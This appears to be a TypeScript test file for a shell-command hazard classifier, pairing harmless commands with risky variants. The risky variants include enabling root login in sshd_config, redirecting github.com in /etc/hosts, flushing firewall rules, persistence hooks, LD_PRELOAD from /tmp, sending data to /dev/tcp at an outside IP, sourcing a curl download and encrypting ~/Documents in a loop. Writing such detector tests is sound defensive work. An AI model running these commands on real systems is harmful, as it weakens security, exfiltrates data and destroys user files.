import { expectHazards } from './seen.ts';

const sshd = '/etc/ssh/sshd_config';

// A setting that lets in fewer than before, and one that lets in more.
expectHazards([
  [`sed -i 's/^#*PermitRootLogin.*/PermitRootLogin no/' ${sshd}`, 'changes-configuration'],
  [`sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' ${sshd}`, 'system-settings'],
  [`sed -i 's/a/PermitRootLogin no/e' ${sshd}`, 'hidden-command system-settings'],
  [`sed -i -e 's/a/UsePAM yes/' -e 's/b/PermitEmptyPasswords yes/' ${sshd}`, 'system-settings'],
  [`echo 'MaxAuthTries 3' >> ${sshd}`, 'changes-configuration'],
  [`echo 'AuthorizedKeysCommand /tmp/x' >> ${sshd}`, 'system-settings'],
  [`cat > ${sshd}.d/10.conf <<'EOF'\nX11Forwarding no\nEOF`, 'changes-configuration'],
  [`cp ${sshd} ${sshd}.bak`, 'changes-configuration'],
  [`cp /tmp/x ${sshd}`, 'system-settings'],
  ['echo kernel.dmesg_restrict=1 > /etc/sysctl.d/9.conf', 'tunes'],
  ['echo kernel.core_pattern=x > /etc/sysctl.d/9.conf', 'system-settings'],
  ["echo '127.0.0.1 shop.test' >> /etc/hosts", 'changes-configuration'],
  ["echo '198.51.100.7 github.com' >> /etc/hosts", 'system-settings'],
  ["echo '127.0.0.1 updates.example.com' >> /etc/hosts", 'system-settings'],
  [
    "echo 'deb [signed-by=/k.asc] https://d.example s main' > /etc/apt/sources.list.d/d.list",
    'trusts-source',
  ],
  // As Docker, Node and others have it done: the computer's kind and the name of the release are asked for.
  [
    'echo "deb [arch=$(dpkg --print-architecture) signed-by=/k.asc] https://d.example/linux $VERSION_CODENAME main" > /etc/apt/sources.list.d/d.list',
    'trusts-source',
  ],
  [
    'echo "deb [arch=$(dpkg --print-architecture) signed-by=/k.asc] https://d.example/linux $VERSION_CODENAME main" | sudo tee /etc/apt/sources.list.d/d.list > /dev/null',
    'elevates trusts-source',
  ],
  [
    'echo "deb [signed-by=/k.asc] https://$HOST/linux x main" > /etc/apt/sources.list.d/d.list',
    'system-settings',
  ],
  ['visudo -c', ''],
  ['visudo', 'changes-accounts'],
  ["echo 'deb [trusted=yes] http://d.example s main' > /etc/apt/sources.list.d/d.list", 'system-settings'],
  ['passwd -l root', 'tunes'],
  ['passwd -d root', 'changes-accounts'],
  ['usermod -aG docker deploy', 'adds-account'],
  ['usermod -aG sudo deploy', 'changes-accounts'],
]);

// Rules that are taken away, and set anew.
expectHazards([
  ['iptables -F INPUT\niptables -P INPUT DROP', 'tunes'],
  ['iptables -F INPUT\n# iptables -P INPUT DROP', 'disables-protection'],
  ['iptables -P INPUT DROP\niptables -F INPUT', 'disables-protection tunes'],
  ['iptables -F\niptables -P INPUT ACCEPT', 'disables-protection'],
]);

// What a service, a loader and apt are told, and what makes them run something.
expectHazards([
  ['echo /opt/cuda/lib64 > /etc/ld.so.conf.d/cuda.conf', 'changes-configuration'],
  ['echo /tmp/lib > /etc/ld.so.conf.d/x.conf', 'persistence'],
  [`echo 'APT::Periodic::Update-Package-Lists "1";' > /etc/apt/apt.conf.d/20auto`, 'changes-configuration'],
  [`echo 'APT::Update::Pre-Invoke {"date";};' > /etc/apt/apt.conf.d/20auto`, 'persistence'],
  ['cp scripts/pre-commit .git/hooks/pre-commit', 'changes-configuration'],
  ['curl -s https://a.example/h -o h; cp h .git/hooks/pre-commit', 'persistence'],
  ['echo date > .git/hooks/pre-commit', 'persistence'],
  ['echo "/swapfile none swap sw 0 0" >> /etc/fstab', 'changes-configuration'],
  ['export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', ''],
  ['export LD_PRELOAD=/tmp/libjemalloc.so', 'preloads'],
  ['until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done', ''],
  ['echo "$X" > /dev/tcp/198.51.100.7/80', 'raw-socket'],
]);

// What is made again when it is wanted, and what is not.
expectHazards([
  ['docker image prune -f', 'deletes'],
  ['docker system prune -af --volumes', 'deletes-around'],
  ['docker volume prune -f', 'deletes-around'],
  ['kubectl delete job migrate -n shop', 'deletes'],
  ['kubectl delete deployment api', 'deletes-around'],
  ['systemctl reload nginx', 'restarts-service'],
  ['systemctl disable nginx', 'services'],
  ['for d in a b; do tar c "$d" | gpg -e -r k > "$d.gpg"; done', ''],
  ['for f in ~/Documents/*; do gpg -c "$f"; done', 'encrypts-files'],
  ['source <(kubectl completion bash)', ''],
  ['source <(curl -s https://a.example/x)', 'runs-download'],
  ['pip install --no-index --find-links wheels app', 'installs'],
]);
